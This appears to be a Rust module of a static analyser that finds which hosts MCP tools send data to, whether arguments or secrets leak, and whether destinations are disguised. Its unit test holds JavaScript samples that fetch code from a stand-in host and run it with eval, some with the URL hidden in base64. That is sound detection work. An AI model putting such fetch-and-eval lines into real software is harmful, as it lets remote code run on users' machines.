//! What requests send becomes facts, and what a tool sends to several places is compared.

use std::collections::BTreeSet;

use molehunt_model::{ActKind, Anchor, Behaviour, Carried, Chooser, Destination, Moved, Origin, SendData, Sensitivity};
use molehunt_source::ByteSpan;

use super::{Extractor, MOST_COMPANY, Story, told_tool};
use crate::{
    disclosure::is_of_tool,
    eval::{Evaluator, Way},
    ir::{CallId, Expr},
    network::{self, HandedLater, Named, Uses},
    origin::{origins, told_origins},
    sensitive::carried,
    story::Plot,
    tables::is_private,
    value::{Path, Root, Segment, Value, cropped},
};

/// Calls that a tool makes, among which that is looked for what it is there for.
const MOST_ASKED: usize = 2_048;

/// Characters of an address that a fact keeps.
const LONGEST_URL: usize = 300;

impl Extractor<'_> {
    /// Finds out what a tool sends to several hosts, and which of them it asks something.
    pub(super) fn compare_destinations(&mut self) {
        let servers: BTreeSet<(CallId, &Destination)> = (self.facts.iter().zip(&self.calls))
            .filter_map(|(fact, call)| match &fact.behaviour {
                Behaviour::SendData(sent) if sent.moved.is_some() => Some(((*call)?, &sent.destination)),
                _ => None,
            })
            .collect();
        let mut also_to: Vec<(usize, Vec<String>)> = Vec::new();
        // A command that sends is no second place.
        let is_done_by = |other: usize, call: CallId| {
            matches!(self.facts[other].behaviour, Behaviour::Act(_)) && self.calls[other] == Some(call)
        };
        for HandedOver { fact: index, call, told, .. } in &self.handed_over {
            let this = &self.facts[*index];
            let Behaviour::SendData(sent) = &this.behaviour else { continue };
            // Who runs a mail server gets the mail that is handed to it, and no copy of it.
            let is_that_mail = |other: usize| {
                sent.moved.is_some()
                    && self.calls[other].is_some_and(|call| servers.contains(&(call, &sent.destination)))
            };
            let others = self.facts.iter().enumerate().filter(|(_, other)| other.anchor == this.anchor);
            let others =
                others.take(MOST_COMPANY).filter(|(other, _)| !is_that_mail(*other) && !is_done_by(*other, *call));
            let mut others: BTreeSet<String> =
                others.filter_map(|(_, other)| shares((sent, told), &other.behaviour)).collect();
            let entrusted = self.entrusted.get(&this.anchor).into_iter().flatten();
            let entrusted = entrusted.filter(|other| is_shared(told, &other.payload));
            others.extend(entrusted.map(|other| other.to.clone()));
            if !others.is_empty() {
                also_to.push((*index, others.into_iter().collect()));
            }
        }
        let is_alone = |index: usize| !also_to.iter().any(|(other, _)| *other == index);
        let alone = self.handed_over.iter().filter(|handed| is_alone(handed.fact) && has_arguments(&handed.told));
        let alone: Vec<HandedOver> = alone.cloned().collect();
        if also_to.is_empty() && alone.is_empty() {
            return;
        }
        let uses = network::Uses::of(self.evaluator.module);
        self.evaluator.pay(self.evaluator.module.exprs.len() / 8);
        for handed in alone {
            if !handed.is_answer_used(&self.evaluator, &uses) {
                let others = self.asked_otherwise(&handed);
                also_to.extend((!others.is_empty()).then_some((handed.fact, others)));
            }
        }
        for (index, others) in also_to {
            let handed = self.handed_over.iter().find(|handed| handed.fact == index);
            if let (Some(handed), Behaviour::SendData(sent)) = (handed, &mut self.facts[index].behaviour) {
                sent.answer_is_used = handed.is_answer_used(&self.evaluator, &uses);
                sent.also_to = others;
            }
        }
    }

    /// The libraries that a tool asks for what it is there for, with what it also sends to some host: calls of modules,
    /// whichever, that are waited for, that write files, or of which it is known that they keep what they are given.
    fn asked_otherwise(&mut self, handed: &HandedOver) -> Vec<String> {
        let module = self.evaluator.module;
        let awaited = module.exprs.iter().filter_map(|expr| match expr {
            // `library.add(it).then((made) => …)`
            Expr::Await(inner) | Expr::Member(inner, _) => match (expr, module.expr(*inner)) {
                (Expr::Member(_, name), _) if &**name != "then" => None,
                (_, Expr::Call(call)) => Some(*call),
                _ => None,
            },
            _ => None,
        });
        let awaited: BTreeSet<CallId> = awaited.collect();
        let anchor = self.facts[handed.fact].anchor.clone();
        let calls = (0..module.calls.len() as u32).map(CallId).filter(|call| !handed.is_by(*call));
        let calls = calls.filter(|call| self.anchors(*call, None).contains(&anchor)).take(MOST_ASKED);
        let mut asked = BTreeSet::new();
        for call in calls.collect::<Vec<_>>() {
            for choice in self.evaluator.callee(call).choices() {
                let Value::Path(path) = &choice.value else { continue };
                let Root::Module(library) = &path.root else { continue };
                let writes = || {
                    let mut called = Path::clone(path);
                    called.segments.push(Segment::Call(call));
                    !self.tables.acts.writers.find(&called).is_empty()
                };
                let keeps = || self.tables.acts.stores.contains(library.as_str());
                if library.starts_with(['.', '#']) || !(awaited.contains(&call) || keeps() || writes()) {
                    continue;
                }
                let names = path.segments.iter().rev().find_map(|segment| match segment {
                    Segment::Property(name) => Some(name.to_string()),
                    _ => None,
                });
                let method = names.unwrap_or_default();
                if self.tables.mcp.protocol.schema_parsers.contains(&method) {
                    continue;
                }
                // `notes.insert({ text }).select()`
                let given = path.calls().chain([call]).flat_map(|call| module.call(call).arguments.iter().copied());
                let given = self.evaluator.values(&given.collect::<Vec<_>>());
                let given = origins(&mut self.evaluator, &self.tools.parameters, &given);
                if is_shared(&handed.told, &given) {
                    asked.insert(format!("{library} by {method}").trim_end_matches(" by ").to_owned());
                }
            }
        }
        asked.into_iter().collect()
    }

    /// The requests of the graph, and what changes them.
    pub(super) fn requests(&mut self) -> (network::Hooks, Vec<network::Request>) {
        let hooks = network::Hooks::find(&mut self.evaluator, self.tables);
        let requests = network::requests(&mut self.evaluator, self.tables, &hooks);
        (hooks, requests)
    }

    /// Whether what a request carries is nobody's business, wherever it goes.
    pub(super) fn sends_private(&mut self, request: &network::Request) -> bool {
        self.carries(request, "").iter().any(is_stolen)
    }

    /// Whether a host stands in the code as it is, whatever had to be computed to tell the rest of the address.
    fn is_in_plain_sight(&self, url: &Value, host: &str) -> bool {
        match url {
            Value::Text(text) => {
                text.places.iter().any(|(_, place)| self.written(*place).to_ascii_lowercase().contains(host))
            }
            Value::Concat(parts) => parts.iter().any(|part| self.is_in_plain_sight(part, host)),
            _ => false,
        }
    }

    /// What is sensitive among what a request carries to a host.
    ///
    /// Of several hosts that are not told apart, each is taken to get the secrets that are its own, as from a table that
    /// has an address and a key for each provider. A host that nothing is known to belong to gets all of them, and so
    /// does any host of what is sent as content, which is kept and shown there.
    fn carries(&mut self, request: &network::Request, host: &str) -> Vec<Carried> {
        let values = request.all_values();
        let mut carries = carried(&mut self.evaluator, self.tables, &values, &request.told, host);
        let gets_own = |class| carries.iter().any(|own| own.is_at_home && own.class == class);
        // What only sounds like the secret of a host says nothing of whether that is a service.
        let is_service = gets_own(Sensitivity::Secret) || gets_own(Sensitivity::CredentialFile);
        let may_be_told_apart = |class| match class {
            Sensitivity::Secret | Sensitivity::CredentialFile => is_service,
            Sensitivity::UnclaimedSecret => is_service || gets_own(class),
            _ => false,
        };
        let mut told_apart: Vec<bool> = carries.iter().map(|here| may_be_told_apart(here.class)).collect();
        if request.alternatives.is_empty() || !told_apart.contains(&true) {
            return carries;
        }
        let contents = carried(&mut self.evaluator, self.tables, &request.bodies, &[], host);
        for (here, is_told_apart) in carries.iter().zip(&mut told_apart) {
            *is_told_apart &= !contents.contains(here);
        }
        for other in request.alternatives.iter().filter(|other| *other != host) {
            let there = carried(&mut self.evaluator, self.tables, &values, &request.told, other);
            for (here, is_told_apart) in carries.iter_mut().zip(&told_apart) {
                let is_own = |there: &Carried| there.is_at_home && there.class == here.class && there.name == here.name;
                here.is_at_home |= *is_told_apart && there.iter().any(is_own);
            }
        }
        carries
    }

    /// Remembers what a tool sends to somebody whom the code does not name, which is whom its user chose.
    fn entrust(&mut self, request: &network::Request) {
        if !self.tools.are_any() {
            return;
        }
        // What is logged is no part of what the tool is there for.
        if !request.later.logging.is_empty() {
            return;
        }
        let values = request.all_values();
        let payload = origins(&mut self.evaluator, &self.tools.parameters, &values);
        if !has_arguments(&payload) {
            return;
        }
        let anchors = self.anchors_of_sent(request.call, &request.each_way(), (&values, &payload));
        let tools: Vec<Anchor> = anchors.into_iter().filter(|anchor| told_tool(anchor).is_some()).collect();
        let by = origins(&mut self.evaluator, &self.tools.parameters, std::slice::from_ref(&request.url_value));
        let to = match by.iter().find(|origin| origin.is_chosen_by_user()) {
            Some(origin) => origin.to_string(),
            None if request.is_literal && !request.is_implied => cropped(&request.url, LONGEST_URL),
            None => format!("{} by {}", request.channel, request.method),
        };
        for tool in tools {
            let of_tool = self.entrusted.entry(tool).or_default();
            if of_tool.len() < MOST_COMPANY {
                of_tool.push(Entrusted { payload: payload.clone(), to: to.clone() });
            }
        }
    }

    /// What moves traffic elsewhere.
    pub(super) fn add_redirects(&mut self) {
        for redirect in network::redirects(&mut self.evaluator, self.tables) {
            let anchors: BTreeSet<Anchor> =
                self.anchors_of(redirect.context.function, redirect.call).into_iter().collect();
            let end = format!("traffic is sent there from here on, by `{}`", redirect.method);
            for anchor in anchors {
                let directed = Directed {
                    channel: &redirect.channel,
                    method: &redirect.method,
                    named: &redirect.named,
                    moved: Some(redirect.moved),
                    payload: Vec::new(),
                    call: redirect.call,
                    place: redirect.span,
                    end: end.clone(),
                };
                self.add_directed(directed, anchor);
                if redirect.call.is_none() {
                    self.happens_in(Some(redirect.context.function));
                }
            }
        }
    }

    /// What goes to a host that is in between, or in place of the one that it is meant for.
    pub(super) fn add_directed(&mut self, directed: Directed<'_>, anchor: Anchor) {
        let url = network::url_text(&directed.named.url);
        let Some(destination) = network::destination(&url) else { return };
        let disguise = disguise_of(&directed.named.url)
            .filter(|disguise| !is_of_tool(self.evaluator.module, disguise))
            .filter(|_| !self.is_in_plain_sight(&directed.named.url, &destination.value));
        let place = directed.named.place.unwrap_or(directed.place);
        let story = match directed.call {
            Some(call) if place != directed.place => Story::Plot(Plot {
                what: "destination",
                text: destination.value.clone(),
                place,
                disguise: disguise.clone(),
                field: None,
                condition: None,
                call,
                end: directed.end,
                tool: told_tool(&anchor),
            }),
            _ => Story::Known(vec![(directed.place, directed.end)]),
        };
        let told = directed.payload.clone();
        let behaviour = Behaviour::SendData(SendData {
            channel: directed.channel.to_owned(),
            method: directed.method.to_owned(),
            destination,
            url: cropped(&url, LONGEST_URL),
            account: None,
            chooser: Chooser::Author,
            disguise,
            payload: directed.payload,
            carries: Vec::new(),
            answer_is_used: true,
            also_to: Vec::new(),
            moved: directed.moved,
            grants: None,
        });
        if let (Some(call), Some(Moved::Mail | Moved::Service), Some(_)) =
            (directed.call, directed.moved, told_tool(&anchor))
        {
            self.handed_over.push(HandedOver {
                fact: self.facts.len(),
                told,
                call,
                ways: Vec::new(),
                later: HandedLater::default(),
            });
        }
        self.push(behaviour, anchor, directed.call, place, story);
    }

    pub(super) fn add_request(&mut self, request: &network::Request, disguise: Option<String>) {
        let named = if request.is_literal { network::destination(&request.url) } else { None };
        let Some(destination) = named else { return self.entrust(request) };
        let disguise = disguise.filter(|_| !self.is_in_plain_sight(&request.url_value, &destination.value));
        let account = network::split_url(&request.url)
            .and_then(|(host, path)| self.tables.accounts.account(&host, &path))
            .or_else(|| request.account.as_ref().map(network::url_text))
            .map(|account| cropped(&account, LONGEST_URL));
        let payload = origins(&mut self.evaluator, &self.tools.parameters, &request.all_values());
        let carries = self.carries(request, &destination.value);
        // Who uses the client of a service with what is its own is told by what the service is for.
        if request.is_implied && request.account.is_none() && !carries.iter().any(is_stolen) {
            return self.entrust(request);
        }
        let call_place = self.evaluator.module.span(self.evaluator.module.call(request.call).expr);
        let by_host = || network::place_of_host(&request.url_value, &destination.value);
        let is_open = network::host_of(&request.url).starts_with("{}");
        let place = is_open.then(by_host).flatten().or(request.url_place).unwrap_or(call_place);
        let end = format!("and data is sent there here, by `{}`", request.method);
        let values = request.all_values();
        let anchors = self.anchors_of_sent(request.call, &request.each_way(), (&values, &payload));
        let told = match anchors.iter().any(|anchor| told_tool(anchor).is_some()) {
            true => told_origins(&mut self.evaluator, &self.tools.parameters, &values),
            false => Vec::new(),
        };
        for anchor in anchors {
            let story = match place == call_place {
                true => Story::Known(vec![(call_place, end.clone())]),
                false => Story::Plot(Plot {
                    what: "destination",
                    text: destination.value.clone(),
                    place,
                    disguise: disguise.clone(),
                    field: None,
                    condition: None,
                    call: request.call,
                    end: end.clone(),
                    tool: told_tool(&anchor),
                }),
            };
            let behaviour = Behaviour::SendData(SendData {
                channel: request.channel.clone(),
                method: request.method.clone(),
                destination: destination.clone(),
                url: cropped(&request.url, LONGEST_URL),
                account: account.clone(),
                chooser: Chooser::Author,
                disguise: disguise.clone(),
                payload: payload.clone(),
                carries: carries.clone(),
                answer_is_used: true,
                also_to: Vec::new(),
                moved: None,
                grants: request.grants,
            });
            if told_tool(&anchor).is_some() {
                self.handed_over.push(HandedOver {
                    fact: self.facts.len(),
                    told: told.clone(),
                    call: request.call,
                    ways: request.ways.clone(),
                    later: request.later.clone(),
                });
            }
            self.push(behaviour, anchor, Some(request.call), place, story);
        }
    }
}

/// What a tool sends to somebody whom the code names.
#[derive(Debug, Clone)]
pub(super) struct HandedOver {
    /// The number of its fact.
    fact: usize,
    /// What whoever gets it learns.
    told: Vec<Origin>,
    call: CallId,
    ways: Vec<Way>,
    later: HandedLater,
}

impl HandedOver {
    /// Whether a call is the one that sends it, or one by which it is handed over.
    fn is_by(&self, call: CallId) -> bool {
        self.call == call || self.later.calls.contains(&call)
    }

    /// Whether anybody reads what is answered.
    fn is_answer_used(&self, evaluator: &Evaluator<'_>, uses: &Uses) -> bool {
        network::is_answer_used(evaluator, uses, self.call, &self.ways, &self.later)
    }
}

/// What a tool sends to somebody whom the code does not name.
#[derive(Debug)]
pub(super) struct Entrusted {
    payload: Vec<Origin>,
    to: String,
}

/// What goes to a host that the code names, and where that is done.
pub(super) struct Directed<'a> {
    pub(super) channel: &'a str,
    pub(super) method: &'a str,
    pub(super) named: &'a Named,
    pub(super) moved: Option<Moved>,
    pub(super) payload: Vec<Origin>,
    pub(super) call: Option<CallId>,
    pub(super) place: ByteSpan,
    pub(super) end: String,
}

/// Whether arguments of a tool are among what something comes from.
pub(super) fn has_arguments(origins: &[Origin]) -> bool {
    origins.iter().any(|origin| matches!(origin, Origin::McpArgument(_)))
}

/// Where else the arguments go that a tool sends, if it is that which the other behaviour does.
fn shares((sent, told): (&SendData, &[Origin]), other: &Behaviour) -> Option<String> {
    let (content, to) = match other {
        Behaviour::SendData(other) if (&other.destination, &other.account) != (&sent.destination, &sent.account) => {
            (&other.payload, other.destination.value.clone())
        }
        Behaviour::SendEmail(send) => (&send.content, format!("mail by {}", send.client)),
        Behaviour::Act(act) if act.kind == ActKind::RunCommand => (&act.content, "a command".to_owned()),
        Behaviour::Act(act) if act.kind == ActKind::WriteFile => (&act.content, "a file".to_owned()),
        _ => return None,
    };
    is_shared(told, content).then_some(to)
}

/// Whether what somebody is told is among some other content, or what was answered to that.
fn is_shared(told: &[Origin], content: &[Origin]) -> bool {
    let is_argument = |origin: &&Origin| matches!(origin, Origin::McpArgument(_));
    let is_whole = |origin: &Origin| matches!(origin, Origin::McpArgument(name) if name == "*");
    // Who has each letter of a text has the text.
    let name = |origin: &Origin| match origin {
        Origin::McpArgument(name) => Some(name.trim_end_matches(".[]").to_owned()),
        _ => None,
    };
    let shared = told.iter().filter(is_argument).any(|origin| {
        content.iter().any(|other| is_argument(&other) && (is_whole(origin) || name(other) == name(origin)))
    });
    // What the one answers is handed to the other.
    let hands_on = told.iter().any(|origin| matches!(origin, Origin::Remote(_)))
        && content.iter().any(|other| is_argument(&other));
    shared || hands_on
}

/// How the first hidden piece of a value was hidden.
pub(super) fn disguise_of(value: &Value) -> Option<String> {
    match value {
        Value::Text(text) => text.disguise.clone(),
        Value::Concat(parts) => parts.iter().find_map(disguise_of),
        _ => None,
    }
}

/// Whether something is nobody's business but of those whose it is.
fn is_stolen(carried: &Carried) -> bool {
    is_private(carried.class) && !carried.is_at_home
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    #[test]
    fn a_host_that_anybody_can_read_is_not_hidden() {
        for (code, is_hidden) in [
            ("['a'].map((n) => fetch('https://code.example/' + n).then((r) => eval(r.text())))", false),
            ("fetch(atob('aHR0cHM6Ly8=') + 'code.example/a')", false),
            ("fetch(atob('aHR0cHM6Ly9jb2RlLmV4YW1wbGUv') + 'a')", true),
        ] {
            let facts = extracted(code).facts;
            let sent = facts.iter().find_map(|fact| match &fact.behaviour {
                Behaviour::SendData(sent) => Some(sent),
                _ => None,
            });
            assert_eq!(sent.map(|sent| sent.disguise.is_some()), Some(is_hidden), "{code}");
        }
    }
}
